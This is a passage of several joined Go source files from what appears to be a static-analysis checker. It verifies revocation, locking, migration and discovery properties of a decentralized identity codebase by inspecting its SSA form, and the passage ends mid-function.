	r.Gate(Gate{ID: "C11.validate.proof-present", Fn: vr, Effect: SuccessReturn(), Check: CmpCheck("r.Proof == nil is false", token.EQL, FieldV("Revocation", "Proof"), NilV(), false)})

	// (3) status list verification
	sv := p.Func(rev, "StatusList2021", "Verify")
	il := p.Func(rev, "StatusList2021", "isListed")
	r.ArgIs("C11.status.bit-of-the-credentials-index", il, Fn(rev, "bitstring", "bit"), 0, CallV(Fn("std:strconv", "", "Atoi"), 0), 1)
	r.ArgIs("C11.status.index-parsed-from-entry", il, Fn("std:strconv", "", "Atoi"), 0, FieldV("StatusList2021Entry", "StatusListIndex"), 1)
	skips := []Check{CmpCheck("status.Type != StatusList2021Entry", token.EQL, FieldV("CredentialStatus", "Type"), AnyV(), false), CmpCheck("purpose != revocation", token.EQL, FieldV("StatusList2021Entry", "StatusPurpose"), StrV("revocation"), false)}
	noStatus := []Check{CmpCheck("credentialStatus == nil", token.EQL, FieldV("VerifiableCredential", "CredentialStatus"), NilV(), true)}
	// every revocation entry is looked at, and none may list the credential (fix: the loop returned at the first entry it
	// could not check, so a later entry that lists the credential was never consulted): no early exit, every iteration
	// passes "not listed" (or is of another type/purpose)
	r.Gate(Gate{ID: "C11.status.bit-clear", Fn: sv, Effect: SuccessReturn(), ForEach: true, Check: CallCheck(Fn(rev, "StatusList2021", "isListed"), 0, IsFalse), Alt: noStatus, Skip: skips})
	r.Refuse(Refuse{ID: "C11.status.listed-is-revoked", Fn: sv, Cond: CallCheck(Fn(rev, "StatusList2021", "isListed"), 0, IsTrue), Effect: SuccessReturn()})
	// isListed answers from the named list, loaded, with matching purpose; its verdict is the bit itself (tail call)
	r.Gate(Gate{ID: "C11.status.list-loaded", Fn: il, Effect: SuccessReturn(), Check: ErrCheck(Fn(rev, "StatusList2021", "statusList"))})
	r.Gate(Gate{ID: "C11.status.purpose-matches", Fn: il, Effect: SuccessReturn(), Check: CmpCheck("sList.StatusPurpose == slEntry.StatusPurpose", token.EQL, FieldV("credentialRecord", "StatusPurpose"), FieldV("StatusList2021Entry", "StatusPurpose"), true)})
	r.Gate(Gate{ID: "C11.status.verdict-is-the-bit", Fn: il, Effect: SuccessReturn(), Check: ErrCheck(Fn(rev, "bitstring", "bit"))})
	c17ArgFrom(r, "C11.status.named-list", il, Fn(rev, "StatusList2021", "statusList"), 0, PathV("slEntry", "StatusListCredential"), "the list consulted is the one named by the credential's own status entry")
	up := p.Func(rev, "StatusList2021", "update")
	r.Gate(Gate{ID: "C11.status.downloaded-verified", Fn: up, Effect: SuccessReturn(), Check: ErrCheck(Fn(rev, "StatusList2021", "verify"))})
	r.Gate(Gate{ID: "C11.status.downloaded-is-named", Fn: up, Effect: SuccessReturn(), Check: CmpCheck("statusListCredential == credSubject.ID", token.EQL, ParamV("statusListCredential"), FieldV("StatusList2021CredentialSubject", "ID"), true)})
	vfy := p.Func(rev, "StatusList2021", "verify")
	r.Gate(Gate{ID: "C11.status.verify.validate", Fn: vfy, Effect: SuccessReturn(), Check: ErrCheck(Fn(rev, "StatusList2021", "validate"))})
	r.Gate(Gate{ID: "C11.status.verify.signature", Fn: vfy, Effect: SuccessReturn(), Check: ErrCheck(DynField("VerifySignature"))})
	r.Own(OwnSpec{ID: "C11.own.status-record-create", Op: "gorm Create(&credentialRecord)", Sites: gormModelSites(p, "Create", "credentialRecord"), Min: 3, Owners: map[string]string{
		"(*vcr/revocation.StatusList2021).update":     "downloaded, verified list",
		"(*vcr/revocation.StatusList2021).Credential": "re-signed own list",
		"(*vcr/revocation.StatusList2021).Entry":      "new page",
		"(*vcr/revocation.StatusList2021).Revoke":     "after adding a revocation",
	}})

	// (4) issuing side ordering
	c11ReissueSites(r)
	rv := one(anonCalling(p.Func(rev, "StatusList2021", "Revoke"), Fn(rev, "StatusList2021", "updateCredential")))
	c11Order(r, "C11.revoke.lock-then-insert-then-rebuild", rv, []Callee{Fn(rev, "", "lockCredentialRecord"), gormModel("Create", "revocationRecord"), Fn(rev, "StatusList2021", "updateCredential"), gormModel("Create", "credentialRecord")})
	r.Gate(Gate{ID: "C11.revoke.insert-gates-rebuild", Fn: rv, Effect: CallEffect(Fn(rev, "StatusList2021", "updateCredential")), Check: Check{Desc: "tx.Create(&revocation).Error == nil", Pass: ErrNil, Values: dbErrorOf(gormModel("Create", "revocationRecord"))}})
	// a revocation is effective or Revoke fails: the transaction succeeds only if the list was rebuilt and the rebuilt list was stored
	r.Gate(Gate{ID: "C11.revoke.effective-or-fails.rebuilt", Fn: rv, Effect: SuccessReturn(), Check: ErrCheck(Fn(rev, "StatusList2021", "updateCredential"))})
	r.Gate(Gate{ID: "C11.revoke.effective-or-fails.stored", Fn: rv, Effect: SuccessReturn(), Check: Check{Desc: "tx.Create(credRecord).Error == nil", Pass: ErrNil, Values: dbErrorOf(gormModel("Create", "credentialRecord"))}})
	r.Gate(Gate{ID: "C11.revoke.lock-gates", Fn: rv, Effect: CallEffect(gormModel("Create", "revocationRecord")), Check: ErrCheck(Fn(rev, "", "lockCredentialRecord"))})
	r.Gate(Gate{ID: "C11.revoke.index-in-range", Fn: rv, Effect: CallEffect(Fn(rev, "StatusList2021", "updateCredential")), Check: CmpCheck("statusListIndex <= LastIssuedIndex", token.LEQ, AnyV(), FieldV("credentialIssuerRecord", "LastIssuedIndex"), true)})
	// Entry: locking read inside the transaction; retry only on duplicated key
	en := p.Func(rev, "StatusList2021", "Entry")
	c11EntryLocking(r, en)
	// (5) served list freshness
	cr := p.Func(rev, "StatusList2021", "Credential")
	nowPlusMargin := VPat{Desc: "time.Now().Add(minTimeUntilExpired)", M: func(v ssa.Value) bool {
		c, ok := StripConv(v).(*ssa.Call)
		if !ok || !Fn("std:time", "Time", "Add").M(c.Common()) || !NowV().M(c.Common().Args[0]) {
			return false
		}
		d, ok := ConstInt(c.Common().Args[1])
		return ok && d > 0
	}}
	r.Gate(Gate{ID: "C11.serve.stored-only-if-fresh", Fn: cr, Effect: InstrEffect("return of the stored credential", func(in ssa.Instruction) bool {
		ret, ok := in.(*ssa.Return)
		if !ok {
			return false
		}
		return CallV(Fn(goDid+"/vc", "", "ParseVerifiableCredential"), 0).M(ret.Results[0])
	}), Check: TimeOrder("time.Now()+margin is before the stored credential's expiry", nowPlusMargin, AnyV(), IsTrue)})
	r.Gate(Gate{ID: "C11.serve.managed-only", Fn: cr, Effect: ReturnsNonNil(0), Check: CallCheck(Fn(rev, "StatusList2021", "isManaged"), -1, IsTrue)})
}

// DynField matches a dynamic call through a struct field with the given name (function-typed field).
func DynField(name string) Callee {
	return Callee{Desc: "call through field " + name, M: func(cc *ssa.CallCommon) bool {
		if cc.IsInvoke() || cc.StaticCallee() != nil {
			return false
		}
		return FieldPathEnds(cc.Value, name)
	}}
}

func gormModel(method, model string) Callee {
	return Callee{Desc: "gorm " + method + "(&" + model + ")", M: func(cc *ssa.CallCommon) bool {
		if !Fn(gormPkg, "DB", method).M(cc) {
			return false
		}
		a := CallArg(cc, 0)
		if a == nil {
			return false
		}
		n := NamedOf(StripConv(a).Type())
		return n != nil && n.Obj().Name() == model
	}}
}

func gormModelSites(p *Prog, method, model string) []Site {
	return p.CallSites(gormModel(method, model), false)
}

func c11SetBitTrue(r *Report) {
	p := r.P
	rule := "ARG: every production call of bitstring.setBit sets the bit (constant true): a set bit is never cleared"
	sites := p.CallSites(Fn("vcr/revocation", "bitstring", "setBit"), true)
	n := 0
	for _, s := range sites {
		if p.FileClass(p.FuncPos(s.Fn)) != "prod" {
			continue
		}
		n++
		ci, ok := s.Instr.(ssa.CallInstruction)
		if !ok {
			r.Bad("C11.addonly.setbit-true", rule, p.Pos(s.Pos), "setBit used as a function value")
			return
		}
		if b, isB := ConstBool(CallArg(ci.Common(), 1)); !isB || !b {
			r.Bad("C11.addonly.setbit-true", rule, p.Pos(s.Pos), "setBit called with a value other than the constant true")
			return
		}
	}
	r.Sites += n
	if n == 0 {
		r.Lost("C11.addonly.setbit-true", rule, "no setBit call found")
		return
	}
	r.OK("C11.addonly.setbit-true", rule, "", fmt.Sprintf("%d call(s)", n), true)
}

// c11UpsertAll: every clause.OnConflict literal in vcr/revocation has UpdateAll = true (an upsert of a status list record
// replaces every column, in particular the bitstring).
func c11UpsertAll(r *Report) {
	p := r.P
	rule := "ARG: upserts of status list records replace all columns (clause.OnConflict{UpdateAll: true})"
	n, bad := 0, 0
	for _, fn := range p.Funcs {
		if fn.Pkg == nil && fn.Parent() == nil {
			continue
		}
		if !strings.HasSuffix(funcPkg(fn), "/vcr/revocation") || p.FileClass(p.FuncPos(fn)) != "prod" {
			continue
		}
		for _, b := range fn.Blocks {
			for _, in := range b.Instrs {
				al, ok := in.(*ssa.Alloc)
				if !ok {
					continue
				}
				nm := NamedOf(al.Type())
				if nm == nil || nm.Obj().Name() != "OnConflict" {
					continue
				}
				n++
				all := false
				for _, ref := range *al.Referrers() {
					fa, ok := ref.(*ssa.FieldAddr)
					if !ok || !FieldPathEnds(&ssa.UnOp{Op: token.MUL, X: fa}, "UpdateAll") {
						continue
					}
					for _, r2 := range *fa.Referrers() {
						if st, ok := r2.(*ssa.Store); ok {
							if bv, isB := ConstBool(st.Val); isB && bv {
								all = true
							}
						}
					}
				}
				if !all {
					bad++
					r.Bad("C11.addonly.upsert-all-columns @ "+p.FuncName(Outer(fn)), rule, p.Pos(al.Pos()), "OnConflict without UpdateAll: true — a refreshed record may keep a stale bitstring")
				}
			}
		}
	}
	r.Sites += n
	if n < 3 {
		r.Lost("C11.addonly.upsert-all-columns", rule, fmt.Sprintf("%d OnConflict literals found", n))
	} else if bad == 0 {
		r.OK("C11.addonly.upsert-all-columns", rule, "", fmt.Sprintf("%d upserts", n), true)
	}
}

func funcPkg(fn *ssa.Function) string {
	for f := fn; f != nil; f = f.Parent() {
		if f.Pkg != nil {
			return f.Pkg.Pkg.Path()
		}
	}
	return ""
}

func c11ResolveAtDate(r *Report, rr *ssa.Function) {
	rule := "ARG: the revocation's signing key is resolved at the revocation date (ResolveTime = &revocation.Date)"
	key := "C11.register.key-at-revocation-date"
	if rr == nil {
		r.Lost(key, rule, "function not found")
		return
	}
	for _, b := range rr.Blocks {
		for _, in := range b.Instrs {
			if st, ok := in.(*ssa.Store); ok {
				if fa, ok := st.Addr.(*ssa.FieldAddr); ok && FieldPathEnds(&ssa.UnOp{Op: token.MUL, X: fa}, "ResolveTime") {
					r.Sites++
					if strings.Contains(AccessPath(st.Val, 0), "revocation.Date") {
						r.OK(key, rule, r.P.Pos(st.Pos()), "ResolveTime: &revocation.Date", true)
					} else {
						r.Bad(key, rule, r.P.Pos(st.Pos()), "ResolveTime is "+AccessPath(st.Val, 0))
					}
					return
				}
			}
		}
	}
	r.Bad(key, rule, r.P.Pos(rr.Pos()), "no ResolveTime set")
}

// c11ReissueSites: every updateCredential call is in a Transaction closure; its record argument was loaded with
// Preload("Revocations").First(record) or created (tx.Create(record)) earlier in the same closure; except in Entry (new
// page) it is preceded by the row lock.
func c11ReissueSites(r *Report) {
	p := r.P
	rule := "ORDER: a status list is re-issued only inside a SQL transaction, from a record whose revocations were loaded (Preload(\"Revocations\")) or that was created in that same transaction, after the row lock"
	sites := p.CallSites(Fn("vcr/revocation", "StatusList2021", "updateCredential"), true)
	n := 0
	for _, s := range sites {
		if p.FileClass(p.FuncPos(s.Fn)) != "prod" {
			continue
		}
		n++
		outer := Outer(s.Fn)
		key := "C11.reissue.in-tx-from-loaded-record @ " + p.FuncName(outer)
		inTx := false
		for _, cl := range ClosureArgs(outer, Fn(gormPkg, "DB", "Transaction"), 0) {
			if cl == s.Fn {
				inTx = true
			}
		}
		if !inTx {
			r.Bad(key, rule, p.Pos(s.Pos), "the list is rebuilt and signed outside the SQL transaction: a revocation committing in between is overwritten by the stale list")
			continue
		}
		ci := s.Instr.(ssa.CallInstruction)
		rec := CallArg(ci.Common(), 1)
		loaded, created, locked := false, false, false
		for _, b := range s.Fn.Blocks {
			for _, in := range b.Instrs {
				c, ok := in.(ssa.CallInstruction)
				if !ok || !InstrDominates(in, s.Instr) {
					continue
				}
				cc := c.Common()
				if Fn(gormPkg, "DB", "First").M(cc) && sameRecord(CallArg(cc, 0), rec) {
					// receiver chain must contain Preload("Revocations")
					if strings.Contains(AccessPath(cc.Args[0], 0), `Preload(`) && strings.Contains(AccessPath(cc.Args[0], 0), `"Revocations"`) {
						loaded = true
					}
				}
				if Fn(gormPkg, "DB", "Create").M(cc) && sameRecord(CallArg(cc, 0), rec) {
					created = true
				}
				if Fn("vcr/revocation", "", "lockCredentialRecord").M(cc) {
					locked = true
				}
			}
		}
		r.Sites += 3
		switch {
		case !loaded && !created:
			r.Bad(key, rule, p.Pos(s.Pos), "the record handed to updateCredential was neither loaded with Preload(\"Revocations\") nor created in this transaction: the re-issued list can miss revocations")
		case loaded && !locked:
			r.Bad(key, rule, p.Pos(s.Pos), "the record is loaded without taking the row lock first")
		default:
			r.OK(key, rule, p.Pos(s.Pos), fmt.Sprintf("in transaction; loaded=%v created=%v locked=%v", loaded, created, locked), true)
		}
	}
	if n < 3 {
		r.Lost("C11.reissue.in-tx-from-loaded-record", rule, fmt.Sprintf("%d updateCredential call sites", n))
	}
}

func sameRecord(a, b ssa.Value) bool {
	if a == nil || b == nil {
		return false
	}
	a, b = StripConv(a), StripConv(b)
	return a == b || AccessPath(a, 0) == AccessPath(b, 0)
}

// c11Order: the first call matching each callee appears in dominance order.
func c11Order(r *Report, id string, fn *ssa.Function, seq []Callee) {
	var d []string
	for _, c := range seq {
		d = append(d, c.Desc)
	}
	rule := "ORDER: " + strings.Join(d, " → ")
	if fn == nil {
		r.Lost(id, rule, "function not found")
		return
	}
	key := id + " @ " + r.P.FuncName(fn)
	var prev ssa.Instruction
	for i, c := range seq {
		calls := Calls(fn, c)
		if len(calls) == 0 {
			r.Bad(key, rule, r.P.Pos(fn.Pos()), "step missing: "+c.Desc)
			return
		}
		r.Sites++
		cur := ssa.Instruction(calls[0])
		if i > 0 && !InstrDominates(prev, cur) {
			r.Bad(key, rule, r.P.Pos(cur.Pos()), seq[i-1].Desc+" does not precede "+c.Desc+" on every path")
			return
		}
		prev = cur
	}
	r.OK(key, rule, r.P.Pos(fn.Pos()), "dominance chain holds", true)
}

func c11EntryLocking(r *Report, en *ssa.Function) {
	p := r.P
	rule := "ORDER: the last status-list page is read with a row lock (clause.Locking{Update} or UPDLOCK) inside the transaction that increments and writes the index; the loop retries only on ErrDuplicatedKey"
	key := "C11.entry.locked-increment"
	if en == nil {
		r.Lost(key, rule, "Entry not found")
		return
	}
	cls := ClosureArgs(en, Fn(gormPkg, "DB", "Transaction"), 0)
	if len(cls) != 1 {
		r.Lost(key, rule, fmt.Sprintf("%d transaction closures", len(cls)))
		return
	}
	cl := cls[0]
	lock, updlock, write := false, false, false
	for _, b := range cl.Blocks {
		for _, in := range b.Instrs {
			if al, ok := in.(*ssa.Alloc); ok {
				if n := NamedOf(al.Type()); n != nil && n.Obj().Name() == "Locking" {
					for _, ref := range *al.Referrers() {
						if fa, ok := ref.(*ssa.FieldAddr); ok && FieldPathEnds(&ssa.UnOp{Op: token.MUL, X: fa}, "Strength") {
							for _, r2 := range *fa.Referrers() {
								if st, ok := r2.(*ssa.Store); ok {
									if s, ok := ConstString(st.Val); ok && s == "UPDATE" {
										lock = true
									}
								}
							}
						}
					}
				}
			}
			if ci, ok := in.(ssa.CallInstruction); ok {
				if Fn(gormPkg, "DB", "Raw").M(ci.Common()) {
					if s, ok := ConstString(CallArg(ci.Common(), 0)); ok && strings.Contains(s, "UPDLOCK") {
						updlock = true
					}
				}
				if Fn(gormPkg, "DB", "UpdateColumn").M(ci.Common()) || gormModel("Create", "credentialIssuerRecord").M(ci.Common()) {
					write = true
				}
			}
		}
	}
	r.Sites += 3
	if !lock || !updlock || !write {
		r.Bad(key, rule, p.Pos(cl.Pos()), fmt.Sprintf("locking clause=%v UPDLOCK branch=%v index write in same transaction=%v", lock, updlock, write))
		return
	}
	r.OK(key, rule, p.Pos(cl.Pos()), "both dialect branches lock; the write is in the same transaction closure", true)
	// retry only on duplicate key
	r.Gate(Gate{ID: "C11.entry.retry-only-on-duplicate", Fn: en, ForEach: true, LoopOnly: true, Check: CallCheck(Fn("std:errors", "", "Is"), -1, IsTrue)})
}
