package props

import (
	"fmt"
	"go/token"
	"strings"

	"golang.org/x/tools/go/ssa"

	. "verifcheck/an"
)

// Rules added after the ninth (blind, 8 properties) seeding round.

func c07Seed9(r *Report) {
	p := r.P
	// C07-n: a TransactionListQuery is answered for ALL requested refs (sorted on clock): the requested list is never cut
	// positionally — its order is the IBLT decode order, so a cut drops ancestors of what is kept and the same query comes back
	h := p.Func("network/transport/v2", "protocol", "handleTransactionListQuery")
	key := "C07.progress.list-query-answered-for-every-requested-ref"
	rule := "ARG: handleTransactionListQuery never re-slices the list of requested refs"
	if h == nil {
		r.Lost(key, rule, "handleTransactionListQuery not found")
		return
	}
	n := 0
	for _, b := range h.Blocks {
		for _, in := range b.Instrs {
			switch x := in.(type) {
			case *ssa.Range, *ssa.Next, *ssa.IndexAddr:
				n++
			case *ssa.Slice:
				if (x.Low != nil || x.High != nil) && strings.Contains(x.X.Type().String(), "SHA256Hash") && !strings.HasPrefix(x.X.Type().String(), "*[") {
					r.Bad(key, rule, p.Pos(x.Pos()), "the requested refs are cut to "+AccessPath(x, 0))
					return
				}
			}
		}
	}
	r.Sites += n
	if n == 0 {
		r.Lost(key, rule, "no loop over the requested refs")
		return
	}
	r.OK(key, rule, p.Pos(h.Pos()), "", true)
}

func c08Seed9(r *Report) {
	p := r.P
	const tr = "network/dag/tree"
	// C08-n: a replaced page is persisted: Replace marks the leaf it overwrote dirty on every path to the rebuild (the repair
	// would otherwise fix memory only and the stored leaf stays corrupt)
	rp := p.Func(tr, "tree", "Replace")
	key := "C08.tree.replace-marks-the-leaf-dirty"
	rule := "ORDER: every path of tree.Replace to rebuild() passes dirtyLeaves[...] = leaf"
	if rp == nil {
		r.Lost(key, rule, "tree.Replace not found")
		return
	}
	isRebuild := func(in ssa.Instruction) bool {
		c, ok := in.(ssa.CallInstruction)
		return ok && Fn(tr, "tree", "rebuild").M(c.Common())
	}
	isMark := func(in ssa.Instruction) bool {
		mu, ok := in.(*ssa.MapUpdate)
		return ok && fieldOfLoad(mu.Map) == "dirtyLeaves"
	}
	nE, nM, bad := passesBefore(rp, isRebuild, isMark)
	r.Sites += nE + nM
	switch {
	case nE == 0:
		r.Lost(key, rule, "no rebuild() call in tree.Replace")
	case bad != token.NoPos:
		r.Bad(key, rule, p.Pos(bad), "the tree is rebuilt on a path that did not mark the replaced leaf dirty")
	default:
		r.OK(key, rule, p.Pos(rp.Pos()), "", true)
	}
}

func c10Seed9(r *Report) {
	p := r.P
	// C10-n: the store answers the question it was asked: Resolve matches versions against the caller's metadata as given
	// (a merged version's hash is not the payload hash of any of its source transactions)
	rs := p.Func("vdr/didnuts/didstore", "store", "Resolve")
	key := "C10.resolve.metadata-used-as-given"
	rule := "OWN: store.Resolve writes no field of a ResolveMetadata (the selectors are the caller's)"
	if rs == nil {
		r.Lost(key, rule, "store.Resolve not found")
		return
	}
	n := 0
	for _, f := range WithAnons(rs) {
		n += len(Calls(f, Fn("vdr/didnuts/didstore", "", "readMetadata")))
		for _, b := range f.Blocks {
			for _, in := range b.Instrs {
				st, ok := in.(*ssa.Store)
				if !ok {
					continue
				}
				if fa, isFA := st.Addr.(*ssa.FieldAddr); isFA && strings.HasSuffix(derefName(fa.X.Type().String()), "resolver.ResolveMetadata") {
					r.Bad(key, rule, p.Pos(st.Pos()), "Resolve sets "+fieldName(fa.X.Type(), fa.Field)+" of the metadata it matches against")
					return
				}
			}
		}
	}
	r.Sites += n
	if n == 0 {
		r.Lost(key, rule, "store.Resolve does not read version metadata (control failed)")
		return
	}
	r.OK(key, rule, p.Pos(rs.Pos()), "", true)
}

func c18Seed9(r *Report) {
	p := r.P
	// C18-n: a migrated history ends at the version that deactivates the document: the conversion loop tests every version
	// with resolver.IsDeactivated and is left on the first hit (a later, conflicting version must not become the head)
	mg := p.Func("vdr/didsubject", "SqlManager", "MigrateDIDHistoryToSQL")
	key := "C18.migrate.history-cut-at-deactivation"
	rule := "ORDER: inside the conversion loop of MigrateDIDHistoryToSQL, IsDeactivated(version) == true leaves the loop"
	if mg == nil {
		r.Lost(key, rule, "MigrateDIDHistoryToSQL not found")
		return
	}
	loops := Loops(mg)
	n := 0
	for _, ci := range Calls(mg, Fn("vdr/resolver", "", "IsDeactivated")) {
		c, _ := ci.(*ssa.Call)
		if c == nil {
			continue
		}
		l := InnermostLoop(loops, c.Block())
		if l == nil {
			continue
		}
		for _, ref := range *c.Referrers() {
			iff, ok := ref.(*ssa.If)
			if !ok {
				continue
			}
			n++
			tb := iff.Block().Succs[0]
			reach := Reach(tb, nil, nil)
			if reach[l.Header] && l.Body[tb] {
				// the true branch stays in the loop and comes round again
				back := false
				for b := range reach {
					if l.Body[b] {
						for _, s := range b.Succs {
							if s == l.Header {
								back = true
							}
						}
					}
				}
				if back && !leavesLoopFirst(tb, l) {
					r.Bad(key, rule, p.Pos(iff.Pos()), "a deactivating version does not end the conversion")
					return
				}
			}
		}
	}
	r.Sites += n
	if n == 0 {
		r.Bad(key, rule, p.Pos(mg.Pos()), "no IsDeactivated test inside the conversion loop: versions after the deactivation are migrated too")
		return
	}
	r.OK(key, rule, p.Pos(mg.Pos()), fmt.Sprintf("%d test(s)", n), true)
}

// leavesLoopFirst: every path from b reaches a block outside the loop before it reaches the loop header again.
func leavesLoopFirst(b *ssa.BasicBlock, l *Loop) bool {
	seen := map[*ssa.BasicBlock]bool{}
	var walk func(x *ssa.BasicBlock) bool
	walk = func(x *ssa.BasicBlock) bool {
		if x == l.Header {
			return false
		}
		if !l.Body[x] || seen[x] {
			return true
		}
		seen[x] = true
		for _, s := range x.Succs {
			if !walk(s) {
				return false
			}
		}
		return true
	}
	return walk(b)
}
