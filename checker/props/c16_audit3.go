package props

import (
	"go/token"
	"strings"

	"golang.org/x/tools/go/ssa"

	. "verifcheck/an"
)

// c16Audit3: rules recorded with the third audit round's repairs.
func c16Audit3(r *Report, us *ssa.Function) {
	p := r.P
	const d = "discovery"
	idStr := CallV(Fn(goDid, "URI", "String"), -1)
	// (a) entries are identified by their ID (existence, retraction): "jti": "" parses to a non-nil empty URI and is no ID
	vr := p.Func(d, "Module", "verifyRegistration")
	r.Gate(Gate{ID: "C16.register.id-not-empty", Fn: vr, Effect: SuccessReturn(),
		Check: CmpCheck("presentation.ID.String() == \"\" is false", token.EQL, idStr, StrV(""), false)})
	add := Fn(d, "sqlStore", "add")
	r.Gate(Gate{ID: "C16.client.id-not-empty", Fn: us, Effect: CallEffect(add),
		Check: CmpCheck("presentation.ID.String() == \"\" is false", token.EQL, idStr, StrV(""), false)})
	// (b) the server accepts the ID of a superseded or retracted presentation again: the client skips an entry only when it
	//     holds exactly that presentation (same contents), not when it merely holds something under that ID
	ct := p.Func(d, "sqlStore", "contains")
	r.Gate(Gate{ID: "C16.client.known-entry-compared-by-contents", Fn: ct, Effect: ReturnsConstBoolVal(0, true),
		Check: CmpCheck("row.PresentationRaw == presentation.Raw()", token.EQL, FieldV("presentationRecord", "PresentationRaw"), CallV(Fn(goDid+"/vc", "VerifiablePresentation", "Raw"), -1), true)})
	r.Gate(Gate{ID: "C16.client.known-entry-compared-by-contents.decides-the-skip", Fn: us, Effect: CallEffect(add), Check: CallCheck(Fn(d, "sqlStore", "contains"), 0, IsFalse)})
	r.Own(OwnSpec{ID: "C16.client.known-entry-compared-by-contents.not-by-id-alone", Op: "call sqlStore.exists (presence by ID only) while processing the server's list",
		Sites: sitesIn(p, us, Fn(d, "sqlStore", "exists")), Owners: map[string]string{}, Min: 0})
	// (c) an entry that can not be stored (its content clashes with what the node knows) is skipped; every other store error
	//     still aborts the update so that it is tried again
	r.LoopContinues("C16.client.unstorable-entry-is-skipped", us, Check{Desc: "errors.As(err, store.RejectedError) is true", Call: ptr(Fn("std:errors", "", "As")), Result: 0, Pass: IsTrue, NoLift: true,
		Filter: func(ci ssa.CallInstruction) bool {
			args := ci.Common().Args
			if len(args) < 2 {
				return false
			}
			v := args[1]
			if mi, ok := v.(*ssa.MakeInterface); ok {
				v = mi.X
			}
			return strings.Contains(v.Type().String(), "store.RejectedError")
		}}, 1)
	// ... and what makes a credential unstorable is reported as such by the credential store
	cs := p.Func("vcr/credential/store", "CredentialStore", "Store")
	rule := "TABLE: CredentialStore.Store reports a clash of credential ID and contents as RejectedError"
	key := "C16.client.unstorable-entry-is-skipped.clash-is-a-rejection"
	if cs == nil {
		r.Lost(key, rule, "CredentialStore.Store not found")
		return
	}
	// the branch taken when a stored credential with this ID has other contents must produce the RejectedError
	n, clash := 0, 0
	strip := Fn("vcr/credential/store", "", "stripWhitespaceAndLinebreaks")
	for _, b := range cs.Blocks {
		for _, in := range b.Instrs {
			if mi, ok := in.(*ssa.MakeInterface); ok && strings.HasSuffix(mi.X.Type().String(), "store.RejectedError") {
				n++
			}
		}
		iff, ok := b.Instrs[len(b.Instrs)-1].(*ssa.If)
		if !ok {
			continue
		}
		bin, isBin := iff.Cond.(*ssa.BinOp)
		if !isBin || (bin.Op != token.NEQ && bin.Op != token.EQL) || !CallV(strip, -1).M(bin.X) || !CallV(strip, -1).M(bin.Y) {
			continue
		}
		differ := b.Succs[0]
		if bin.Op == token.EQL {
			differ = b.Succs[1]
		}
		clash++
		for _, in := range differ.Instrs {
			if mi, isMI := in.(*ssa.MakeInterface); isMI && strings.HasSuffix(mi.X.Type().String(), "store.RejectedError") {
				clash += 100
			}
		}
	}
	r.Sites += n
	switch {
	case clash == 0:
		r.Lost(key, rule, "the comparison of the stored and the new credential's contents was not found")
	case clash < 100 || n < 1:
		r.Bad(key, rule, p.Pos(cs.Pos()), "the branch for 'same ID, other contents' does not return a RejectedError: the client aborts on such an entry on every poll, forever")
	default:
		r.OK(key, rule, p.Pos(cs.Pos()), "", true)
	}
}

func sitesIn(p *Prog, fn *ssa.Function, c Callee) []Site {
	var out []Site
	if fn == nil {
		return out
	}
	for _, f := range WithAnons(fn) {
		for _, ci := range Calls(f, c) {
			out = append(out, Site{Fn: f, Instr: ci, Pos: ci.Pos()})
		}
	}
	return out
}
