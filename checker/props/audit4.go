package props

import (
	"fmt"
	"go/token"
	"go/types"
	"strings"

	"golang.org/x/tools/go/ssa"

	. "verifcheck/an"
)

// Rules recorded with the fourth audit round's repairs (one function per property; each is called from the property's
// own rule function).


// constStringArg: the idx-th declared argument of the call, looked through interface boxing, as a string constant.
func constStringArg(cc *ssa.CallCommon, idx int) (string, bool) {
	a := CallArg(cc, idx)
	if a == nil {
		return "", false
	}
	if mi, ok := a.(*ssa.MakeInterface); ok {
		a = mi.X
	}
	return ConstString(StripConv(a))
}

func c13Audit4(r *Report) {
	p := r.P
	// (a) the sweep decides on a transaction as a whole: after the age query selected the candidates, ALL change records of
	//     their transactions are loaded (the versions of one operation are stamped in different seconds)
	rb := p.Func("vdr/didsubject", "SqlManager", "Rollback")
	rule := "ARG: SqlManager.Rollback loads the change records by transaction id (transaction_id IN ?) before it groups and decides"
	key := "C13.sweep.whole-transaction-is-decided"
	if rb == nil {
		r.Lost(key, rule, "Rollback not found")
	} else {
		n := 0
		for _, f := range WithAnons(rb) {
			for _, ci := range Calls(f, Fn(gormPkg, "DB", "Where")) {
				if s, ok := constStringArg(ci.Common(), 0); ok && strings.Contains(strings.ToLower(s), "transaction_id in") {
					n++
				}
			}
		}
		r.Sites += n
		if n == 0 {
			r.Bad(key, rule, p.Pos(rb.Pos()), "the change records are selected by age only: a sweep between the time stamps of two versions of one operation decides on part of it and drops the records of the rest")
		} else {
			r.OK(key, rule, p.Pos(rb.Pos()), "", true)
		}
	}
	// (b) the sweep runs on every node that can have pending changes, also one without did:nuts
	st := p.Func("vdr", "Module", "Start")
	rule = "ORDER: every success return of vdr.Module.Start is preceded by the go statement that runs rollbackLoop (also when there is no network ambassador)"
	key = "C13.sweep.loop-started-on-every-node"
	if st == nil {
		r.Lost(key, rule, "Module.Start not found")
	} else {
		blocked := map[*ssa.BasicBlock]bool{}
		for _, b := range st.Blocks {
			for _, in := range b.Instrs {
				g, ok := in.(*ssa.Go)
				if !ok {
					continue
				}
				var fn *ssa.Function
				switch v := g.Call.Value.(type) {
				case *ssa.MakeClosure:
					fn, _ = v.Fn.(*ssa.Function)
				case *ssa.Function:
					fn = v
				}
				if fn != nil && (fn.Name() == "rollbackLoop" || len(Calls(fn, Fn("vdr", "Module", "rollbackLoop"))) > 0) {
					blocked[b] = true
				}
			}
		}
		r.Sites += len(blocked)
		bad := ""
		if len(blocked) > 0 && !blocked[st.Blocks[0]] {
			for b := range Reach(st.Blocks[0], nil, blocked) {
				if ret, ok := b.Instrs[len(b.Instrs)-1].(*ssa.Return); ok && len(b.Succs) == 0 {
					if len(ret.Results) == 1 && IsNilConst(ret.Results[0]) {
						bad = p.Pos(ret.Pos())
					}
				}
			}
		}
		switch {
		case len(blocked) == 0:
			r.Bad(key, rule, p.Pos(st.Pos()), "no go statement running rollbackLoop")
		case bad != "":
			r.Bad(key, rule, bad, "Start returns nil here without having started the rollback loop: an interrupted operation stays in the change log and blocks its subject forever")
		default:
			r.OK(key, rule, p.Pos(st.Pos()), "", true)
		}
	}
	// (c) a version that is still in the change log is not served: the resolver of managed DIDs excludes pending versions
	rs := p.Func("vdr/didsubject", "Resolver", "Resolve")
	r.ArgIs("C13.resolve.pending-version-is-not-served", rs, Fn("vdr/didsubject", "", "NewDIDDocumentManager"), 0,
		VPat{Desc: "a DB handle restricted to versions NOT IN the change log", M: func(v ssa.Value) bool {
			c, ok := v.(*ssa.Call)
